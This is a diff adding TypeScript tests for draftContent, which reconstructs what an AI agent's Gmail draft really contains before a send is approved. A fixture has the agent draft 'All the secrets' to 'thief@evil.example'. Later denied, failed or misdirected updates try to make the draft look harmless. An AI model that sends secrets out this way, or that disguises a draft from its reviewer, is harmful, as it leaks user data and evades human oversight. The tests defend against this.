@@ -38,6 +38,55 @@ describe('what a draft says', () => {
     expect(draftContent(changed, 'r-1')).toEqual({ to: 'dana@x.example', subject: 'Offer', body: 'New prices' })
   })
 
+  const secret = [
+    result('c1', { id: 'r-1' }),
+    call('c1', 'gmail_create_draft', { to: 'thief@evil.example', body: 'All the secrets' }),
+  ]
+  const change = call('c2', 'gmail_update_draft', { draft_id: 'r-1', to: 'dana@x.example', body: 'Harmless' })
+  const denial: BetaManagedAgentsSessionEvent = {
+    type: 'user.tool_confirmation',
+    id: 'c2-denied',
+    tool_use_id: 'c2',
+    result: 'deny',
+    processed_at: AT,
+  }
+  const failure = { ...result('c2', 'The person denied this.'), is_error: true }
+
+  it.each([
+    ['was denied', [denial, change]],
+    [
+      'was denied, whatever the answer to it looks like',
+      [result('c2', { id: 'r-1', body: 'Harmless' }), denial, change],
+    ],
+    ['failed', [failure, change]],
+    [
+      'made another draft of it',
+      [result('c3', { id: 'r-2' }), call('c3', 'gmail_create_draft', { draft_id: 'r-1', body: 'Harmless' })],
+    ],
+  ])('is not what a call would have made of it that %s', (_name, events) => {
+    const sending = call('c9', 'gmail_send_draft', { draft_id: 'r-1' })
+    expect(draftContent([sending, ...events, ...secret], 'r-1')).toEqual({
+      to: 'thief@evil.example',
+      body: 'All the secrets',
+    })
+  })
+
+  it('is unknown where only a change of it was seen: to whom it goes, nobody said', () => {
+    expect(draftContent([result('c2', { id: 'r-1' }), change], 'r-1')).toBeNull()
+  })
+
+  it('is unknown while a change of it has no answer yet', () => {
+    expect(draftContent([change, ...secret], 'r-1')).toBeNull()
+  })
+
+  it('is not taken from an attachment', () => {
+    const attached = [
+      result('c4', { id: 'r-1', to: 'dana@x.example', body: 'Harmless' }),
+      call('c4', 'gmail_get_attachment_by_id', {}),
+    ]
+    expect(draftContent([...attached, ...secret], 'r-1')).toMatchObject({ to: 'thief@evil.example' })
+  })
+
   it('is known from how it was read', () => {
     const read = [
       result('c3', {
